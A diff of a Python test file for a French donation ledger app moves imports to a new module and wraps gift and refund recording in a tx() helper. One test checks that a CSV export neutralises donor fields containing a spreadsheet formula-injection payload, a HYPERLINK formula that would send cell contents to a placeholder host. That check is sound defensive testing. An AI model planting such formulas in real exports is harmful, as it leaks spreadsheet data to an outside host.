@@ -13,6 +13,7 @@ from sqlalchemy import func, select
 
 from app.extensions import db
 from app.ledger.models import Donor, LedgerEntry
+from tests.factories import tx
 
 # Test data rows are long by nature.
 # ruff: noqa: E501
@@ -155,13 +156,13 @@ def test_money_awaiting_a_refund_is_out_of_the_receipts_and_blocks_the_filing_ex
     from datetime import date
 
     from app.ledger.entries import record_refund
-    from app.ledger.service import GiftInput, record_gift
+    from app.ledger.gifts import GiftInput, record_gift
     from tests.ledger.conftest import identity
 
     campaign = demo_site.campaign
-    record_gift(GiftInput(campaign_id=campaign.id, amount_cents=450_000, on=date(2026, 11, 2),
+    tx(record_gift, GiftInput(campaign_id=campaign.id, amount_cents=450_000, on=date(2026, 11, 2),
                           method="cheque", identity=identity(), source_ref="c:1"))
-    over = record_gift(GiftInput(campaign_id=campaign.id, amount_cents=30_000,
+    over = tx(record_gift, GiftInput(campaign_id=campaign.id, amount_cents=30_000,
                                  on=date(2026, 11, 3), method="carte", identity=identity(),
                                  source_ref="stripe:charge:ch_9"), enforce=False)
     out = tmp_path / "d.csv"
@@ -181,7 +182,7 @@ def test_money_awaiting_a_refund_is_out_of_the_receipts_and_blocks_the_filing_ex
     out.unlink()
     code, output, rows = export("--for-filing")
     assert code == 1 and "DON-16" in output and "200,00 €" in output and not out.exists()
-    record_refund(over.entry_id, 20_000, on=date(2026, 11, 5), source_ref="re_9",
+    tx(record_refund, over.entry_id, 20_000, on=date(2026, 11, 5), source_ref="re_9",
                   reason="Excédent DON-16")
     code, _, rows = export("--for-filing")
     assert code == 0 and ["Total général", "4600,00"] in rows
@@ -192,11 +193,11 @@ def test_money_awaiting_a_refund_is_out_of_the_receipts_and_blocks_the_filing_ex
 def test_export_never_turns_a_donor_field_into_a_formula(runner, demo_site, tmp_path) -> None:
     from datetime import date
 
-    from app.ledger.service import GiftInput, record_gift
+    from app.ledger.gifts import GiftInput, record_gift
     from tests.ledger.conftest import identity
 
     payload = '=HYPERLINK("http://x/?"&B2,"ok")'
-    record_gift(GiftInput(campaign_id=demo_site.campaign.id, amount_cents=5_000,
+    tx(record_gift, GiftInput(campaign_id=demo_site.campaign.id, amount_cents=5_000,
                           on=date(2026, 11, 2), method="cheque",
                           identity=identity(payload, "@SUM(A1)"), source_ref="c:f"))
     out = tmp_path / "d.csv"
@@ -217,11 +218,11 @@ def test_treasurer_sees_likely_duplicates_and_merges_or_keeps_them_apart(runner,
                                                                         users) -> None:
     from datetime import date
 
-    from app.ledger.service import GiftInput, record_gift
+    from app.ledger.gifts import GiftInput, record_gift
     from tests.ledger.conftest import identity
 
     def give(amount: int, ref: str, **who: str) -> int:
-        outcome = record_gift(GiftInput(campaign_id=demo_site.campaign.id, amount_cents=amount,
+        outcome = tx(record_gift, GiftInput(campaign_id=demo_site.campaign.id, amount_cents=amount,
                                         on=date(2026, 11, 2), method="cheque",
                                         identity=identity(**who), source_ref=ref))
         assert outcome.status == "accepted"
